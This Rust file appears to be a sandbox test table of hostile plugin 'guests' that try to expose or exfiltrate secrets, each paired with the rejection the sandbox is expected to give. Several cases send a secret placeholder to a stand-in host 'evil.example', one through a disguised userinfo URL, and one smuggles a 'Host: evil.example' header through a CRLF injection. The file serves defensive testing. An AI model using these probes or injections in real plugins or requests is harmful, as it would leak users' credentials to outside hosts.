//! Guests that want a secret to appear where they can see it, or to leave with it.

use catalyst_sandbox::Function;

use super::kinds::{End, Fear, Guest, fear};
use super::raw::Raw;

fn probing(url: &str, header: &str, value: &str) -> Vec<u8> {
    let mut raw = Raw::new();
    let at = raw.probe(url, header, value);
    raw.gives(Function::CredentialProbe, at).build()
}

pub const FEARS: &[Fear] = &[
    fear(
        "a variable from an undeclared secret",
        Guest::Rendering("secret", ""),
        End::BadOutput,
        "a variable is filled from a secret that the plugin did not declare",
    ),
    fear(
        "a variable over a secret's",
        Guest::Rendering("a variable over a secret's", ""),
        End::BadOutput,
        "a variable is filled twice",
    ),
    fear(
        "a secret in a probe's URL",
        Guest::Called(|| probing("https://api.cloud.example/{{secret:token}}", "A", "b"), Function::CredentialProbe),
        End::BadOutput,
        "a probe's URL holds a secret's placeholder",
    ),
    fear(
        "a probe to an undeclared host",
        Guest::Called(|| probing("https://evil.example/", "A", "{{secret:token}}"), Function::CredentialProbe),
        End::BadOutput,
        "a probe's URL is not https at one of the declared API hosts",
    ),
    fear(
        "a probe to a host in disguise",
        Guest::Called(
            || probing("https://api.cloud.example@evil.example/", "A", "{{secret:token}}"),
            Function::CredentialProbe,
        ),
        End::BadOutput,
        "a probe's URL is not https at one of the declared API hosts",
    ),
    fear(
        "a probe without TLS",
        Guest::Called(|| probing("http://api.cloud.example/", "A", "b"), Function::CredentialProbe),
        End::BadOutput,
        "a probe's URL is not https at one of the declared API hosts",
    ),
    fear(
        "a probe with an undeclared secret",
        Guest::Called(
            || probing("https://api.cloud.example/", "A", "{{secret:ghcr-pull-token}}"),
            Function::CredentialProbe,
        ),
        End::BadOutput,
        "a probe asks for a secret that the plugin did not declare",
    ),
    fear(
        "a secret as a header's name",
        Guest::Called(|| probing("https://api.cloud.example/", "{{secret:token}}", "b"), Function::CredentialProbe),
        End::BadOutput,
        "a probe's header",
    ),
    fear(
        "a header that begins another",
        Guest::Called(
            || probing("https://api.cloud.example/", "A", "b\r\nHost: evil.example"),
            Function::CredentialProbe,
        ),
        End::BadOutput,
        "a probe's header",
    ),
    fear("a placeholder in a log line", Guest::Asked("log a placeholder"), End::Harmless, "{{secret:token}}"),
    fear("the presence of secrets", Guest::Rendering("behave", ""), End::Harmless, "warnings: [\"token\"]"),
];
